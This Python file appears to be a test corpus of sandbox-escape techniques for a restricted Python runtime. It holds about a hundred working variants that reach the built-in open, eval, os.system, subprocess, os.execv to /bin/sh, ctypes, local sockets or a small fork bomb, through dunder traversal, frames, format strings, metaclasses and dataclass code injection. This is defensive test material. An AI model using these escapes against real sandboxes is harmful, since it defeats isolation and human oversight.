"""
The escape corpus: ways out of a Python sandbox, each in several variants.

Each entry is what `execute(platform, **kwargs)` does, with imports and definitions above a line `---`. It succeeds if
it returns the text of the file `kwargs["secret"]`, returns "ESCAPED", creates the file `kwargs["target"]`, or connects
to `kwargs["port"]`. bare.py shows that each succeeds on Python itself.
"""

import re
from typing import NamedTuple

from support import function


class Escape(NamedTuple):
    technique: str
    name: str
    code: str
    is_seen: bool
    """The text shows it, so the validator refuses it. Otherwise the restricted runtime does."""
    reads_itself: bool
    """It only reads what is in its own process, which holds nothing but the execution's own data."""


READ = 'return opener(kwargs["secret"]).read()'
"""The end of most entries: `opener` is the built-in `open`."""
BUILTINS = "own = found['__builtins__']\nopener = own['open'] if isinstance(own, dict) else own.open\n" + READ

_TEXT = r"""
#### dunder traversal: subclasses of object
for each in ().__class__.__base__.__subclasses__():
    if each.__name__ == "_wrap_close":
        found = each.__init__.__globals__
BUILTINS

#### dunder traversal: method resolution order
for each in "".__class__.__mro__[-1].__subclasses__():
    if each.__name__ == "_wrap_close":
        found = each.__init__.__globals__
BUILTINS

#### dunder traversal: importer of built-in modules
for each in ().__class__.__base__.__subclasses__():
    if each.__name__ == "BuiltinImporter":
        posix = each.load_module("posix")
posix.mkfifo(kwargs["target"])

#### dunder traversal: importer of built-in modules, system
for each in ().__class__.__base__.__subclasses__():
    if each.__name__ == "BuiltinImporter":
        posix = each.load_module("posix")
posix.system("echo > " + kwargs["target"])

#### dunder traversal: globals of a function
found = execute.__globals__
BUILTINS

#### dunder traversal: globals of a lambda
found = (lambda: 0).__globals__
BUILTINS

#### dunder traversal: module of a built-in function
opener = len.__self__.open
READ

#### dunder traversal: method of the platform
found = platform.log.__globals__
BUILTINS

#### dunder traversal: type of a type
class Mine(object): pass
---
for each in Mine.__class__.__subclasses__(Mine.__class__):
    if each.__name__ == "ABCMeta":
        found = each.register.__globals__
BUILTINS

#### dunder traversal: object.__getattribute__
found = object.__getattribute__(execute, "__globals__")
BUILTINS

#### dunder traversal: built-ins of a function
opener = execute.__builtins__["open"]
READ

#### dunder traversal: module of a class
import datetime
---
opener = datetime.sys.modules["builtins"].open if hasattr(datetime, "sys") else datetime.__builtins__["open"]
READ

#### dunder traversal: reduce
rebuild = Exception("x").__reduce_ex__(4)[0]
found = {}.__reduce_ex__(4)[0].__globals__
BUILTINS

#### dunder names: __builtins__
own = __builtins__
opener = own["open"] if isinstance(own, dict) else own.open
READ

#### dunder names: __import__
opener = __import__("io").open
READ

#### dunder names: __build_class__
opener = __build_class__.__self__.open
READ

#### format: attribute
return "ESCAPED" if "open" in "{0.__globals__[__builtins__]}".format(execute) else None
reads itself

#### format: keyword
return "ESCAPED" if "open" in "{f.__globals__[__builtins__]}".format(f=execute) else None
reads itself

#### format: unbound method
return "ESCAPED" if "open" in str.format("{0.__globals__[__builtins__]}", execute) else None
reads itself

#### format: format_map
return "ESCAPED" if "open" in "{f.__globals__[__builtins__]}".format_map({"f": execute}) else None
reads itself

#### format: string made at run time
text = "{0.__glo" + "bals__[__built" + "ins__]}"
return "ESCAPED" if "open" in text.format(execute) else None
reads itself
not seen

#### format: passed as a function
return "ESCAPED" if "open" in list(map("{0.__globals__[__builtins__]}".format, [execute]))[0] else None
reads itself

#### format: nested specification
class Shown:
    def __format__(self, text): return text
---
text = "{0:{1.__globals__[__builtins__]}}".format(Shown(), execute)
return "ESCAPED" if "open" in text else None
reads itself

#### format: subclass of str
class Text(str):
    def show(self, value): return super().format(value)
---
return "ESCAPED" if "open" in Text("{0.__globals__[__builtins__]}").show(execute) else None
reads itself

#### format: f-string
return "ESCAPED" if "open" in f"{execute.__globals__['__builtins__']}" else None
reads itself

#### format: field of a dataclass
from dataclasses import dataclass, asdict, field
from typing import Any
@dataclass(init=False)
class Text(str):
    "A text."
    format: Any
---
show = asdict(Text("{0.__globals__[__builtins__]}"))["format"]
return "ESCAPED" if "open" in show(execute) else None
reads itself

#### string.Formatter: format
import string
---
return "ESCAPED" if "open" in string.Formatter().format("{0.__globals__[__builtins__]}", execute) else None
reads itself

#### string.Formatter: get_field
from string import Formatter
---
found = Formatter().get_field("0.__globals__", [execute], {})[0]
BUILTINS

#### string.Formatter: UserString
from collections import UserString
---
return "ESCAPED" if "open" in UserString("{0.__globals__[__builtins__]}").format(execute) else None
reads itself

#### frames: generator
def steps():
    yield 1
---
opener = steps().gi_frame.f_builtins["open"]
READ

#### frames: generator that is running
frames = []
def steps():
    frames.append(running.gi_frame.f_back)
    yield 1
---
global running
running = steps()
next(running)
opener = frames[0].f_builtins["open"]
READ

#### frames: generator expression
frame = (each for each in [1]).gi_frame
opener = frame.f_builtins["open"]
READ

#### frames: coroutine
async def other(): pass
---
waiting = other()
opener = waiting.cr_frame.f_builtins["open"]
waiting.close()
READ

#### frames: asynchronous generator
async def other():
    yield 1
---
opener = other().ag_frame.f_builtins["open"]
READ

#### frames: traceback
try:
    1 / 0
except ZeroDivisionError as error:
    opener = error.__traceback__.tb_frame.f_builtins["open"]
READ

#### frames: context manager
class Catch:
    def __enter__(self): return self
    def __exit__(self, kind, error, traceback):
        self.opener = traceback.tb_frame.f_builtins["open"]
        return True
---
with Catch() as catch:
    1 / 0
opener = catch.opener
READ

#### frames: code of a generator
import types
---
return types.FunctionType((each for each in [1]).gi_code, {}) and "ESCAPED"
reads itself

#### AttributeError.obj: module
import json
---
try:
    json.nothing
except AttributeError as error:
    opener = error.obj.codecs.open
READ

#### AttributeError.obj: alias
import json as other
---
try:
    other.nothing
except Exception as error:
    opener = error.obj.codecs.builtins.open
READ

#### AttributeError.obj: match
import json
---
try:
    json.nothing
except Exception as error:
    match error:
        case AttributeError(obj=module):
            opener = module.codecs.open
READ

#### match class patterns: keyword
match execute:
    case object(__globals__=found):
        pass
BUILTINS

#### match class patterns: generator
match (each for each in [1]):
    case object(gi_frame=frame):
        opener = frame.f_builtins["open"]
READ

#### match class patterns: positions
class Any:
    __match_args__ = ("__globals__",)
    @classmethod
    def __instancecheck__(cls, value): return True
class Meta(type):
    def __instancecheck__(cls, value): return True
class Open(metaclass=Meta):
    __match_args__ = ("__globals__",)
---
match execute:
    case Open(found):
        pass
BUILTINS

#### match class patterns: registered named tuple
from collections import namedtuple
from typing import Protocol, runtime_checkable
from abc import ABC
class Pair(namedtuple("Pair", ["gi_frame"]), ABC): pass
---
values = (each for each in [1])
Pair.register(type(values))
match values:
    case Pair(frame):
        opener = frame.f_builtins["open"]
READ

#### match class patterns: registered dataclass
from abc import ABC
from dataclasses import dataclass
from typing import Any
@dataclass
class Pair(ABC):
    gi_frame: Any
---
values = (each for each in [1])
Pair.register(type(values))
match values:
    case Pair(frame):
        opener = frame.f_builtins["open"]
READ

#### decorators: eval
source = []
---
source.append("open(" + repr(kwargs["secret"]) + ").read()")
@eval
@(lambda cls: source[0])
class result: pass
return result

#### decorators: exec
source = ["open(" + repr("x") + ")"]
---
def code(cls): return "open(" + repr(kwargs["target"]) + ", 'w')"
@exec
@code
class result: pass

#### decorators: on a function
@print.__self__.eval
@(lambda function: "open")
def opener(): pass
READ

#### metaclasses: class statement
class Meta(type):
    __getitem__ = eval
class Mine(metaclass=Meta): pass
---
opener = Mine["open"]
READ

#### metaclasses: type with three arguments
Meta = type("Meta", (type,), {"__getitem__": eval})
Mine = Meta("Mine", (), {})
---
opener = Mine["open"]
READ

#### metaclasses: type of a type
Meta = type(type(1))
Mine = Meta("Mine", (), {"__class_getitem__": eval})
---
opener = Mine["open"]
READ

#### metaclasses: subclass of an enum's
from enum import Enum
class Meta(type(Enum)):
    __getitem__ = eval
class Mine(metaclass=Meta): pass
---
opener = Mine["open"]
READ

#### metaclasses: alias of type
Mine = type[int]("Mine", (), {"__class_getitem__": eval})
---
opener = Mine["open"]
READ

#### hooks of classes: __init_subclass__
seen = []
class Parent:
    def __init_subclass__(cls): seen.append(cls.__init_subclass__.__func__.__globals__)
class Child(Parent): pass
---
found = seen[0]
BUILTINS

#### hooks of classes: __class_getitem__
class Mine:
    __class_getitem__ = eval
---
opener = Mine["open"]
READ

#### hooks of classes: __getattr__
class Mine:
    __getattr__ = lambda self, name: eval(name)
---
opener = Mine().open
READ

#### hooks of classes: __set_name__
found = []
class Hook:
    def __set_name__(self, owner, name): found.append(owner.__init__.__class__)
    def run(self): return self.run.__func__.__globals__
class Owner:
    hook = Hook()
---
found = Owner.hook.run()
BUILTINS

#### hooks of classes: __reduce__
import copy
class Mine:
    def __reduce__(self): return eval, ("open",)
---
opener = copy.copy(Mine())
READ

#### hooks of classes: __del__
class Mine:
    def __del__(self): self.path and open(self.path, "w").close()
---
mine = Mine()
mine.path = kwargs["target"]
del mine

#### unlocked built-ins: global variable
open = None
def unlock():
    global open
    del open
---
unlock()
opener = open
READ

#### unlocked built-ins: class body
class Mine:
    open = None
    del open
    opener = open
---
opener = Mine.opener
READ

#### unlocked built-ins: handler
def unlock():
    global open
    try: 1 / 0
    except ZeroDivisionError as open: pass
---
unlock()
opener = open
READ

#### unlocked built-ins: import
import json as open
def unlock():
    global open
    del open
---
unlock()
opener = open
READ

#### unlocked built-ins: loop that never runs
for open in []: pass
---
opener = open
READ

#### identifiers: other alphabets
opener = 𝓸𝓹𝓮𝓃
READ

#### identifiers: full width
opener = ｏｐｅｎ
READ

#### identifiers: attribute
found = execute.__ｇｌｏｂａｌｓ__
BUILTINS

#### identifiers: keyword of an import
from os import ｏｐｅｎ as opening
---
import os
return "ESCAPED" if opening is os.open else None

#### type hints: get_type_hints
import typing
def hinted(value: "__import__('io').open"): pass
---
opener = typing.get_type_hints(hinted)["value"]
READ

#### type hints: registration of functions
from functools import singledispatch
found = []
@singledispatch
def chosen(value): pass
def hinted(value: "found.append(open) or int"): pass
chosen.register(hinted)
---
opener = found[0]
READ

#### type hints: forward reference
from typing import Optional, get_args
---
reference = get_args(Optional["open"])[0]
opener = reference._evaluate({}, {}, recursive_guard=frozenset())
READ

#### generated source: name of a base class's field
from dataclasses import dataclass, field
leak = field()
@dataclass(init=False, repr=False)
class Parent:
    value: int = leak
---
leak.name = "value, open(" + repr(kwargs["target"]) + ", 'w')"
@dataclass(init=False, repr=False)
class Child(Parent):
    other: int = 0
Child.value = 1
Child() == Child()

#### generated source: name of a field set before its class
from dataclasses import dataclass, field
leak = field()
---
leak.name = "value"
@dataclass(init=False, repr=False)
class Parent:
    value: int = leak
leak.name = "value, open(" + repr(kwargs["target"]) + ", 'w')"
@dataclass(init=False, repr=False)
class Child(Parent):
    value = 1
Child() == Child()

#### generated source: name of a field changed while its class is made
from dataclasses import dataclass, field
leak = field()
@dataclass(init=False, repr=False)
class Parent:
    value: int = leak
class Later(str):
    path = None
    def __hash__(self):
        leak.name = "value, open(" + repr(self.path) + ", 'w')"
        return str.__hash__(self)
---
text = Later("other")
text.path = kwargs["target"]
class Child(Parent):
    value = 1
hash(text)
dataclass(Child, init=False, repr=False) if False else dataclass(init=False, repr=False)(Child)
Child() == Child()

#### generated source: typed dictionary
from dataclasses import dataclass
from typing import TypedDict
class Value:
    value = 1
---
text = "value, open(" + repr(kwargs["target"]) + ", 'w')"
made = TypedDict("Made", {text: int})
made.__doc__ = "A dictionary."
made = dataclass(init=False, repr=False)(made)
made.__eq__(Value(), Value())

#### generated source: annotations
from dataclasses import dataclass
class Mine:
    value = 1
---
Mine.__annotations__ = {"value, open(" + repr(kwargs["target"]) + ", 'w')": int}
dataclass(init=False, repr=False)(Mine)
Mine() == Mine()

#### generated source: subclass of Field
from dataclasses import MISSING, dataclass, fields
@dataclass
class Seed:
    value: int = 0
---
text = "value, open(" + repr(kwargs["target"]) + ", 'w')"
class Evil(type(fields(Seed)[0])):
    name = property(lambda self: text, lambda self, value: None)
@dataclass(init=False, repr=False)
class Made:
    value: int = Evil(MISSING, MISSING, True, False, None, True, None, False)
Made() == Made()
not seen

#### special methods by name: members of an enum
from enum import Enum
from typing import Hashable
import copy, json
class Open(Hashable):
    def __hash__(self): return 1
names = {"__match_args__": ("__globals__",), "__subclasshook__": lambda other: True}
---
rebuild = lambda self, version: (lambda: Open, (), (None, names))
made = Enum("Made", {"A": 1, "__deepcopy__": None, "__reduce_ex__": rebuild})
copy.deepcopy(made.A)
match json.dumps:
    case Open(found):
        pass
BUILTINS
not seen

#### special methods by name: cached property
from functools import cached_property
from typing import Hashable
import copy, json
class Open(Hashable):
    def __hash__(self): return 1
names = {"__match_args__": ("__globals__",), "__subclasshook__": lambda other: True}
class Mine:
    @cached_property
    def step(self): return lambda version: (lambda: Open, (), (None, names))
---
Mine.step.attrname = "__reduce_ex__"
mine = Mine()
mine.step
copy.deepcopy(mine)
match json.dumps:
    case Open(found):
        pass
BUILTINS

#### generated source: made dataclass
import dataclasses
---
made = dataclasses.make_dataclass("Made", [("value", int)], namespace={"__class_getitem__": eval})
opener = made["open"]
READ

#### attributes by name: attrgetter
from operator import attrgetter
---
found = attrgetter("__globals__")(execute)
BUILTINS

#### attributes by name: methodcaller
from operator import methodcaller
---
found = methodcaller("__getattribute__", "__globals__")(execute)
BUILTINS

#### attributes by name: update_wrapper
from functools import update_wrapper
class Target:
    def update(self, values): self.found = values
class Wrapper: pass
---
target, wrapper = Target(), Wrapper()
wrapper.__globals__ = target
update_wrapper(wrapper, execute, assigned=(), updated=("__globals__",))
found = target.found
BUILTINS

#### attributes by name: wraps
from functools import wraps
class Wrapper: pass
---
wrapper = wraps(execute, ("__globals__",), ())(Wrapper())
found = vars(wrapper)["__globals__"]
BUILTINS

#### attributes by name: enum of a module
from enum import IntEnum, Enum
---
found = Enum._convert_("Found", "builtins", lambda name: name == "open")
opener = found.open.value if hasattr(found.open, "value") else found.open
READ

#### attributes by name: names of fields
from dataclasses import dataclass, field, asdict
leak = field(default=None)
@dataclass
class Mine:
    value: int = leak
---
leak.name = "__class__"
kind = asdict(Mine())["__class__"]
return "ESCAPED" if kind is Mine else None
reads itself

#### attributes by name: getattr
opener = getattr(len.__self__, "op" + "en")
READ

#### attributes by name: reduce
from functools import reduce
---
found = reduce(getattr, ["__globals__"], execute)
BUILTINS

#### attributes by name: vars
opener = vars(len.__self__)["open"]
READ

#### attributes by name: setattr
class Mine: pass
---
setattr(Mine, "__class_getitem__", eval)
opener = Mine["open"]
READ

#### modules: member that is a module
import json
---
opener = json.codecs.open
READ

#### modules: from import of a module
from random import _os as system
---
system.mkfifo(kwargs["target"])

#### modules: submodule
import json.decoder
---
return "ESCAPED" if json.decoder else None
reads itself

#### modules: importlib
import importlib
---
opener = importlib.import_module("io").open
READ

#### modules: io
import io
---
opener = io.open
READ

#### modules: star
from os import *
---
return "ESCAPED" if getcwd() else None
reads itself

#### evaluation: eval
return eval("open(" + repr(kwargs["secret"]) + ").read()")

#### evaluation: exec
exec("open(" + repr(kwargs["target"]) + ", 'w').close()")

#### evaluation: compile
run = compile("open(" + repr(kwargs["target"]) + ", 'w').close()", "x", "exec")
(lambda: 0).__class__(run, {"__builtins__": {"open": open}})()

#### evaluation: constructor of functions
def other(): pass
---
make = type(other)
run = make(compile("opener = open", "x", "exec"), globals())
run()
opener = globals()["opener"]
READ

#### operating system: read
opener = open
READ

#### operating system: write
open(kwargs["target"], "w").close()

#### operating system: descriptor
import os
---
return os.read(os.open(kwargs["secret"], os.O_RDONLY), 1000).decode()

#### operating system: shell
import os
---
os.system("echo > " + kwargs["target"])

#### operating system: process
import subprocess
---
subprocess.run(["touch", kwargs["target"]])

#### operating system: fork
import os
---
child = os.fork()
if child == 0:
    os.mkfifo(kwargs["target"])
    os._exit(0)
os.waitpid(child, 0)

#### operating system: fork bomb
import os
---
for each in range(3):
    if os.fork() == 0:
        os.mkfifo(kwargs["target"] + str(each))
        os._exit(0)
import time
time.sleep(0.3)
os.mkfifo(kwargs["target"])

#### operating system: thread
import _thread, time
---
done = []
_thread.start_new_thread(done.append, ("ESCAPED",))
time.sleep(0.1)
return done[0] if done else None

#### operating system: named pipe
import os
---
os.mkfifo(kwargs["target"])

#### operating system: symbolic link
import os
---
os.symlink("/", kwargs["target"])

#### operating system: directory
import os
---
os.mkdir(kwargs["target"])

#### operating system: network
import socket
---
socket.create_connection(("127.0.0.1", kwargs["port"])).close()

#### operating system: network of a bare socket
import _socket
---
_socket.socket(_socket.AF_INET, _socket.SOCK_STREAM).connect(("127.0.0.1", kwargs["port"]))

#### operating system: memory file
import os
---
return "ESCAPED" if os.memfd_create("x") else None

#### operating system: ctypes
import ctypes
---
library = ctypes.CDLL(None)
library.mkfifo(kwargs["target"].encode(), 0o600)

#### operating system: higher limits
import resource
---
resource.setrlimit(resource.RLIMIT_NOFILE, (64, 64))
opener = open
READ

#### operating system: signal to the parent
import os
---
os.kill(os.getppid(), 0)
return "ESCAPED"

#### operating system: new program
import os
---
os.execv("/bin/sh", ["sh", "-c", "echo > " + kwargs["target"]])

#### operating system: objects of the process
import gc
---
return "ESCAPED" if gc.get_objects() else None
"""


def _read(text: str) -> list[Escape]:
    found: list[Escape] = []
    for part in re.split(r"^#### ", text, flags=re.M)[1:]:
        title, _, body = part.strip("\n").partition("\n")
        technique, _, name = title.partition(": ")
        is_seen = not body.endswith("\nnot seen")
        body = body.removesuffix("\nnot seen")
        reads_itself = body.endswith("\nreads itself")
        body = body.removesuffix("\nreads itself")
        body = re.sub(r"^BUILTINS$", lambda _: BUILTINS, body, flags=re.M)
        body = re.sub(r"^READ$", lambda _: READ, body, flags=re.M)
        found.append(Escape(technique, name, function(body), is_seen, reads_itself))
    return found


ESCAPES = _read(_TEXT)
